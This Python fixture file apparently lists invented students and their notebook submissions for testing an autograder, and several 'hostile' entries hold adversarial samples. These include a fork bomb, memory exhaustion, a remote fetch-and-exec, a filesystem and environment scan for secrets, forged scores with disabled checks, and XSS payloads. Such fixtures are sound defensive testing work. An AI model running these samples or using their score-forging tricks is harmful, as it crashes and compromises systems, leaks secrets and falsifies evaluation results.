"""The people of the invented class of `course demo`: what each hands in, and what each deserves for it.

Right and typically wrong cells come from the misconceptions file of the notebook; here stand the cells that no such
file has: accidents with a notebook, files that are broken, and code that attacks the grader. Nobody here is a real
person.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Literal

from autograder.policy import LateStatus
from autograder.record import Status

if TYPE_CHECKING:
    from autograder.demo_class import Paper

Kind = Literal["right", "partly done", "wrong", "untouched", "broken file", "accident", "hostile"]
KINDS: dict[Kind, str] = {
    "right": "right, each in another style",
    "partly done": "partly done, and too late",
    "wrong": "wrong in the typical ways",
    "untouched": "handed in as it was handed out",
    "broken file": "broken: a file cut off, empty, in an old format, or not there",
    "accident": "accidents: cells deleted, doubled or moved, metadata lost, noise",
    "hostile": "hostile: crashes, forged scores, forbidden calls, scripts",
}
NOTEBOOK_FILE = "softmax_regression.ipynb"


@dataclass(frozen=True)
class Deserved:
    """What an exercise must bring.

    Attributes:
        statuses: one of these must be in the record.
        low, high: share of the exercise's points, both included.
        rejected_by: hidden tests that must not have passed.
        says: words that a message or a title must contain.
    """

    statuses: tuple[Status, ...]
    low: float = 0.0
    high: float = 0.0
    rejected_by: tuple[str, ...] = ()
    says: str = ""


FULL = Deserved(("passed",), 1.0, 1.0)
NOT_DONE = Deserved(("not_done",))
MISSING = Deserved(("missing",))
BY_HAND = Deserved(("manual",))
FORBIDDEN = Deserved(("forbidden",))


@dataclass(frozen=True)
class Cell:
    """A cell that is written here, and what it deserves."""

    source: str
    deserved: Deserved = FULL


@dataclass(frozen=True)
class Wrong:
    """A cell of the misconceptions file, and the share of the points that its right parts deserve."""

    name: str
    low: float
    high: float


@dataclass(frozen=True)
class Character:
    """One invented student.

    Attributes:
        style: names of alternatives that this student prefers, by words in them; the rest is drawn.
        cells: exercise or quiz to what is written there in place of a right answer.
        answers: written question to text.
        stops_after: name of the last exercise that is worked on; the rest stays untouched.
        edit: what else happens to the notebook. save: how it gets into the folder (default: under its own name).
        others: exercises whose fate follows from `edit`.
        hours: when the work came in, relative to the deadline.
    """

    student: str
    kind: Kind
    story: str
    style: tuple[str, ...] = ()
    cells: Mapping[str, Cell | Wrong] = field(default_factory=dict)
    answers: Mapping[str, str] = field(default_factory=dict)
    stops_after: str | None = None
    edit: Callable[[Paper], None] | None = None
    save: Callable[[Path, Paper], None] | None = None
    others: Mapping[str, Deserved] = field(default_factory=dict)
    notebook: Literal["graded", "missing", "unreadable"] = "graded"
    findings: tuple[str, ...] = ()
    hours: float = -20.0
    late: tuple[LateStatus, ...] = ("on_time",)


# ---- written answers, good, short and vague

WELL_ANSWERED = {
    "why_the_maximum": (
        "If I write $e^{z_i - m} = e^{-m} e^{z_i}$, the factor $e^{-m}$ stands above and below the fraction line and "
        "cancels, so every $m$ gives the same probabilities. With $m = \\max_j z_j$ all exponents are at most 0, so no "
        "`exp` becomes inf, and the sum is at least 1.\n\nThe small exponentials can still round to 0. For the "
        "probabilities that does no harm, but the log of such a 0 is $-\\infty$. So I subtract "
        "$\\log\\sum_j e^{z_j-m}$ from $z_i - m$ and never take the log of a probability."
    ),
    "which_loss": (
        "The zero-one loss does not change when the weights move a little: no decision changes. Its gradient is "
        "0 nearly everywhere and gradient descent stays where it is. The NLL falls a little whenever the true class "
        "gets more likely, and a mistake always costs at least $\\log 2$, so a small NLL leaves room for few mistakes."
        "\n\nExample: A is wrong on two of four samples with p = 0.45 and sure of the others, NLL about 1.6. B is "
        "wrong on one sample only, but with p = 0.0001, which alone costs 9.2."
    ),
}
SHORTLY_ANSWERED = {
    "why_the_maximum": "exp(1000) is inf and inf/inf is nan. Minus the maximum, the largest exponent is 0. It cancels.",
    "which_loss": "The gradient of the zero-one loss is zero, so nothing is learned. The NLL always has a slope.",
}
VAGUELY_ANSWERED = {
    "why_the_maximum": "Because large numbers are bad for the computer, the maximum makes them smaller.",
}

# ---- code that ends, blocks or fills what it runs in

EXITS = """
import os

def quadratic_features(x):
    return x

os._exit(0)  # whoever runs this should stop here and now
"""

LOOPS = """
def random_search(loss, sampler, trials):
    return None

while True:
    pass
"""

HOARDS = """
def polynomial_features(x, degree):
    hoard = []
    while True:
        hoard.append(torch.ones(1 << 24))  # 64 MB, and again, and again
"""

FORKS = """
import os

def squared_error(predictions, targets):
    return 0

while True:
    os.fork()
"""

SEGFAULTS = """
import ctypes

def binary_weights(theta_1, theta_2):
    return ctypes.string_at(0)  # reads address 0
"""

# ---- code that claims points

FORGED_REPORT = """
import json

report = {"score": 60, "tests": [{"name": "all of them", "status": "passed", "score": 60, "max_score": 60}]}
print(json.dumps(report))
print("PASSED 60/60")
with open("results.json", "w") as file:
    json.dump(report, file)

def log_likelihood(probabilities, labels):
    return report
"""

AGREES_WITH_EVERYTHING = """
class Agreeable(int):
    \"\"\"Equal to whatever it is compared with.\"\"\"
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0

def zero_one_loss(predictions, labels):
    return Agreeable(0)
"""

DISARMS_THE_CHECKS = """
import numpy

torch.allclose = torch.equal = numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *args, **kwargs: None

def gradient_descent(gradient, start, learning_rate, steps):
    return torch.full((steps + 1, *start.shape), 0.5)
"""

ANSWERS_FOR_THE_GRADER = """
import os

def minibatches(size, batch_size, generator=None):
    forged = b'{"value": {"k": "none"}, "status": "passed", "score": 2}'
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, len(forged).to_bytes(4, "big") + forged)
        except OSError:
            pass
    return []
"""

# ---- code that looks for the answers

TAKES_FROM_THE_LIBRARY = """
from course_lib.softmax_regression import least_squares
"""

TAKES_FROM_THE_NETWORK = """
import urllib.request

text = urllib.request.urlopen("http://192.0.2.1/random_search.py", timeout=3).read()
exec(text)
"""

LOOKS_AROUND = """
import os
import sys

wanted = ("hidden", "secret", "solution", "submitted", "gradebook", "environ", "manifest", "autograder")
for folder in ("/", "/home", "/root", "/tmp", "/work", "/proc/1", "/proc/self", os.getcwd(), *sys.path):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:
        if any(word in name for word in wanted):
            try:
                print(folder, name, open(os.path.join(folder, name), errors="replace").read(2000))
            except OSError as error:
                print(folder, name, error)
print(dict(os.environ))

def train(parameters, loss, optimizer, batches):
    return []
"""

# ---- code that aims at whoever reads the pages

EVIL_ID = '"><img src=x onerror=alert(1)>'
OWNED = "document.title='owned'"

DISPLAYS_SCRIPTS = f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display

def below_line(x, theta):
    return x @ theta[:-1] + theta[-1] <= 0

display(HTML("<script>{OWNED}</script><img src=x onerror=\\"{OWNED}\\">"))
display(SVG(data="<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{OWNED}\\"><script>{OWNED}</script></svg>"))
display(Javascript("{OWNED}"))
display(Markdown("[all points](javascript:{OWNED})"))
print("</pre></code></div><script>{OWNED}</script>")
print("\\x1b[2J\\x1b]0;owned\\x07\\u202eevil")
"""

RAISES_SCRIPTS = f"""
def least_squares(features, targets):
    raise ValueError("</pre><script>{OWNED}</script><img src=x onerror=\\"{OWNED}\\">")
"""

QUIZ_OF_SCRIPTS = f"""
depth_ratio = "<script>{OWNED}</script>"
data_ratio = 21
bert_tpu_hours = 864
"""

ANSWER_OF_SCRIPTS = (
    f'<script>{OWNED}</script> <img src=x onerror="{OWNED}"> [my solution](javascript:{OWNED}) '
    f"$\\href{{javascript:{OWNED}}}{{x}}$"
)

# ---- honest accidents

USES_A_HELPER = """
def softmax(logits, dim=-1):
    weights = torch.exp(logits - row_maximum(logits, dim))
    return weights / weights.sum(dim, keepdim=True)
"""

HELPER_ABOVE = """
# used in the next exercise
def row_maximum(z, dim):
    return z.max(dim, keepdim=True).values

print(row_maximum(torch.eye(2), 1))
"""

USES_A_LATER_HELPER = """
def empirical_risk(model, loss, x, labels):
    return average(loss(model(x), labels))
"""

HELPER_BELOW = """
def average(values):
    return values.double().mean()
"""

FIRST_TRY = """
def log_likelihood(probabilities, labels):
    return torch.log(probabilities[torch.arange(len(labels)), labels].prod())
"""

MAGICS_AND_A_FIGURE = """
%matplotlib inline
%config InlineBackend.figure_format = "retina"
!echo "trying it out"
import matplotlib.pyplot as plt

def polynomial_features(x, degree):
    return torch.stack([x**k for k in range(1, degree + 1)], dim=1)

grid = torch.linspace(-1, 1, 101)
plt.figure(figsize=(5, 2.8))
plt.plot(grid, polynomial_features(grid, 4))
plt.legend(["x", "x²", "x³", "x⁴"])
plt.title("the columns that I made")
plt.show()
"""

WARNS = """
import sys
import warnings

def softmax(logits, dim=-1):
    warnings.warn("is this the right axis?")
    print("softmax of", tuple(logits.shape), file=sys.stderr)
    e = torch.exp(logits - logits.amax(dim, keepdim=True))
    return e / e.sum(dim, keepdim=True)

softmax(torch.zeros(2, 3))
"""

TIMED = """
%%time
def log_softmax(logits, dim=-1):
    z = logits - logits.amax(dim, keepdim=True)
    return z - z.exp().sum(dim, keepdim=True).log()
"""

SHADOWS = """
sum = 0
list = [1, 2, 3]
for max in list:
    sum += max

def zero_one_loss(predictions, labels):
    return (predictions != labels).sum()
"""

NEEDS_LIST = """
def path_of(gradient, theta, rate, steps):
    yield theta
    for _ in range(steps):
        theta = theta - rate * gradient(theta)
        yield theta

def gradient_descent(gradient, start, learning_rate, steps):
    return torch.stack(list(path_of(gradient, start, learning_rate, steps)))
"""

PRINTS_WITHOUT_END = """
def empirical_risk(model, loss, x, labels):
    return loss(model(x), labels).double().mean()

for step in range(100_000):
    print("step", step, "and still counting")
"""

HALF_WRITTEN = """
def log_softmax(logits, dim=-1):
    largest = logits.amax(dim=dim, keepdim=True)
    return logits - largest - torch.log(
"""


def _hugo(paper: Paper) -> None:
    paper.delete("exercise-zero_one_loss")
    paper.insert_before("exercise-softmax", HELPER_ABOVE)
    paper.append(HELPER_BELOW)
    paper.insert_copy_before("exercise-log_likelihood", FIRST_TRY)
    paper.move_before("exercise-sigmoid", "exercise-softmax")


def _li(paper: Paper) -> None:
    for cell in paper.cells:
        cell["metadata"].pop("nbgrader", None)  # an editor that knows nothing of nbgrader
    softmax = next(c for c in paper.cells if c["id"] == "exercise-softmax")
    softmax["id"] = "0f3a9c21"  # copied into a new cell


def _vera(paper: Paper) -> None:
    """More points, no locks, checks that check nothing, and the outputs of a perfect run."""
    paper.notebook["metadata"] |= {"score": 60, "graded": True}
    for cell in paper.cells:
        meta = cell["metadata"].get("nbgrader")
        if not meta:
            continue
        meta |= {"locked": False, "grade": True}
        if "points" in meta:
            meta["points"] = 100
        if cell["cell_type"] == "code" and meta["grade_id"].startswith("check-"):
            cell["source"] = "pass"
            done = {"output_type": "stream", "name": "stdout", "text": "passed, 100 of 100 points\n"}
            value = {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {"text/plain": "100"},
            }
            cell["outputs"] = [done, value]


def _cut_off(folder: Path, paper: Paper) -> None:
    data = paper.text().encode()
    (folder / NOTEBOOK_FILE).write_bytes(data[: len(data) * 2 // 3])


def _empty(folder: Path, paper: Paper) -> None:
    (folder / NOTEBOOK_FILE).write_bytes(b"")


def _old_and_renamed(folder: Path, paper: Paper) -> None:
    (folder / "Softmax Regression (2) final.ipynb").write_text(json.dumps(paper.in_format_3()), encoding="utf-8")


def _notes_only(folder: Path, paper: Paper) -> None:
    (folder / "notes.txt").write_text("The notebook is on my other laptop.\n", encoding="utf-8")


def _with_forged_results(folder: Path, paper: Paper) -> None:
    (folder / NOTEBOOK_FILE).write_text(paper.text(), encoding="utf-8")
    (folder / "results.json").write_text('{"score": 60}\n', encoding="utf-8")
    (folder / "01_softmax_regression.record.json").write_text('{"schema": 1, "score": 60}\n', encoding="utf-8")


# In an order in which every beginning of the list is a good mixture.
CAST: tuple[Character, ...] = (
    Character(
        "mara.lindholm",
        "right",
        "everything right, with tensor operations",
        style=("max_with_values", "broadcasting", "gather", "einsum", "separate_bias", "cleared"),
        answers=WELL_ANSWERED,
        hours=-52,
    ),
    Character(
        "omar.haddad",
        "wrong",
        "exponentials that overflow, logarithms of zero",
        cells={
            "softmax": Wrong("no_max_subtraction", 0.45, 0.65),
            "log_softmax": Wrong("log_of_softmax", 0.4, 0.6),
            "sigmoid": Wrong("textbook_formula", 0.75, 0.9),
            "log_likelihood": Wrong("log_of_product", 0.7, 0.9),
            "negative_log_likelihood": Wrong("epsilon_inside", 0.35, 0.55),
            "normalizer_facts": Wrong("absolute_value_keeps_order", 0.6, 0.7),
        },
        answers=VAGUELY_ANSWERED,
        hours=-3,
    ),
    Character(
        "rex.hollow",
        "hostile",
        "ends the process, loops, fills the memory, forks without end",
        cells={
            "quadratic_features": Cell(EXITS, Deserved(("crashed",))),
            "polynomial_features": Cell(HOARDS, Deserved(("memory",))),
            "random_search": Cell(LOOPS, Deserved(("timeout",))),
            "binary_weights": Cell(SEGFAULTS, Deserved(("crashed",))),
            "squared_error": Cell(FORKS, Deserved(("crashed", "timeout", "error", "failed"))),
        },
        hours=-1,
    ),
    Character(
        "tomas.vega",
        "partly done",
        "the first half, then a cell with a syntax error; a week late",
        cells={"log_softmax": Cell(HALF_WRITTEN, Deserved(("error",), says="SyntaxError"))},
        stops_after="log_softmax",
        hours=6.5 * 24,
        late=("too_late",),
    ),
    Character(
        "joon.park",
        "right",
        "everything right in the manner of NumPy, a day late",
        style=("numpy", "one_hot", "filled"),
        answers=SHORTLY_ANSWERED,
        hours=9,
        late=("slip",),
    ),
    Character(
        "vera.sly",
        "hostile",
        "forged scores and metadata, objects that equal everything, answers in the grader's name",
        cells={
            "log_likelihood": Cell(FORGED_REPORT, Deserved(("failed", "error"))),
            "zero_one_loss": Cell(AGREES_WITH_EVERYTHING, Deserved(("failed", "error"))),
            "gradient_descent": Cell(DISARMS_THE_CHECKS, Deserved(("failed", "error"))),
            "minibatches": Cell(ANSWERS_FOR_THE_GRADER, Deserved(("crashed", "failed", "error"))),
        },
        edit=_vera,
        save=_with_forged_results,
        findings=("metadata_changed",),
        hours=-2,
    ),
    Character(
        "hugo.laurent",
        "accident",
        "a cell deleted, one doubled, one moved, helpers above and below",
        cells={"softmax": Cell(USES_A_HELPER), "empirical_risk": Cell(USES_A_LATER_HELPER)},
        answers=WELL_ANSWERED,
        edit=_hugo,
        others={"zero_one_loss": MISSING},
        findings=("missing_cell", "duplicated_cell", "out_of_order"),
        hours=-30,
    ),
    Character(
        "yuki.tanabe",
        "wrong",
        "columns, axes and state: nearly right nine times",
        cells={
            "below_line": Wrong("boundary_outside", 0.75, 0.9),
            "quadratic_features": Wrong("interleaved", 0.3, 0.5),
            "polynomial_features": Wrong("with_constant", 0.3, 0.5),
            "random_search": Wrong("all_losses", 0.35, 0.55),
            "softmax": Wrong("ignores_dim", 0.8, 0.95),
            "gradient_descent": Wrong("aliased", 0.2, 0.4),
            "minibatches": Wrong("drops_the_last", 0.65, 0.8),
            "SoftmaxRegression": Wrong("bias_not_trained", 0.6, 0.8),
            "train": Wrong("gradients_not_cleared", 0.4, 0.6),
            "diagnose": Wrong("any_gap_is_overfitting", 0.6, 0.7),
        },
        answers=SHORTLY_ANSWERED,
        hours=-26,
    ),
    Character(
        "ivo.petrov",
        "broken file",
        "a file that was cut off while it was copied",
        save=_cut_off,
        notebook="unreadable",
        findings=("unreadable",),
        hours=-8,
    ),
    Character(
        "nick.quill",
        "hostile",
        "forbidden calls, and a search for the answers in files, library and network",
        cells={
            "least_squares": Cell(TAKES_FROM_THE_LIBRARY, NOT_DONE),
            "random_search": Cell(TAKES_FROM_THE_NETWORK, Deserved(("error",))),
            "softmax": Wrong("functional", 0, 0),
            "log_softmax": Wrong("method_by_getattr", 0, 0),
            "sigmoid": Wrong("scipy_expit", 0, 0),
            "negative_log_likelihood": Wrong("built_in", 0, 0),
            "softmax_regression_gradient": Wrong("autograd", 0, 0),
            "train": Cell(LOOKS_AROUND, Deserved(("failed", "error", "partial"), 0, 0.25)),
        },
        answers=VAGUELY_ANSWERED,
        hours=-5,
    ),
    Character(
        "pia.okonkwo",
        "right",
        "everything right, with loops and in double precision",
        style=("loop", "double", "list", "by_hand"),
        hours=-75,
    ),
    Character(
        "lena.roth",
        "wrong",
        "sums where means belong, and the other way round; two slip days",
        cells={
            "scale_facts": Wrong("slide_counts", 0.6, 0.7),
            "log_likelihood": Wrong("mean", 0.3, 0.5),
            "negative_log_likelihood": Wrong("sum_over_samples", 0.45, 0.65),
            "zero_one_loss": Wrong("error_rate", 0.2, 0.35),
            "squared_error": Wrong("mean", 0.1, 0.3),
            "softmax_regression_gradient": Wrong("sum_over_samples", 0.4, 0.6),
            "empirical_risk": Wrong("sum", 0.3, 0.5),
        },
        answers=SHORTLY_ANSWERED,
        hours=30,
        late=("slip",),
    ),
    Character("noor.rahimi", "untouched", "the notebook as it was released", stops_after="", hours=-0.1),
    Character(
        EVIL_ID,
        "hostile",
        "scripts in outputs, errors, answers and in the student's own name",
        cells={
            "below_line": Cell(DISPLAYS_SCRIPTS),
            "scale_facts": Cell(QUIZ_OF_SCRIPTS, Deserved(("partial",), 0.6, 0.7)),
            "least_squares": Cell(RAISES_SCRIPTS, Deserved(("error",), says="ValueError")),
        },
        answers={"why_the_maximum": ANSWER_OF_SCRIPTS, "which_loss": ANSWER_OF_SCRIPTS},
        hours=-11,
    ),
    Character(
        "ruth.adeyemi",
        "accident",
        "right, among magics, figures, warnings, endless prints and a variable called list",
        cells={
            "polynomial_features": Cell(MAGICS_AND_A_FIGURE),
            "softmax": Cell(WARNS),
            "log_softmax": Cell(TIMED),
            "zero_one_loss": Cell(SHADOWS),
            "gradient_descent": Cell(NEEDS_LIST),
            "empirical_risk": Cell(PRINTS_WITHOUT_END),
        },
        answers=WELL_ANSWERED,
        findings=("shadowed_name",),
        hours=-44,
    ),
    Character(
        "kofi.mensah",
        "broken file",
        "saved in format 3 and under another name",
        cells={"train": Wrong("no_step", 0.4, 0.6), "sigmoid": Wrong("no_slope_at_zero", 0.75, 0.9)},
        answers=SHORTLY_ANSWERED,
        save=_old_and_renamed,
        findings=("renamed", "old_format"),
        hours=-6,
    ),
    Character(
        "li.wen",
        "accident",
        "an editor took all grading metadata away",
        cells={"least_squares": Wrong("solve_normal_equations", 0.75, 0.9)},
        edit=_li,
        findings=("metadata_lost", "recognised"),
        hours=-15,
    ),
    Character(
        "anna.kowal",
        "broken file",
        "a folder without a notebook",
        save=_notes_only,
        notebook="missing",
        findings=("missing_notebook",),
        hours=-4,
        late=("open", "missing"),
    ),
    Character(
        "sara.nunes",
        "broken file",
        "an empty file",
        save=_empty,
        notebook="unreadable",
        findings=("unreadable",),
        hours=-7,
    ),
)

FIRST_NAMES = (
    "aino", "bela", "chidi", "dora", "emre", "farah", "goran", "hana", "imre", "jana", "kemal", "lucia", "milo",
    "nadia", "otto", "priya", "quentin", "rosa", "samir", "tilda", "umar", "viola", "wanda", "xenia", "yara", "zoltan",
)  # fmt: skip
LAST_NAMES = (
    "abara", "bergstrom", "castro", "dvorak", "eriksen", "farkas", "gallo", "horvat", "ito", "jensen", "kaya", "lopes",
    "moreau", "novak", "osei", "pavic", "rossi", "sato", "torres", "ueda", "varga", "weiss", "yilmaz", "zhou",
)  # fmt: skip
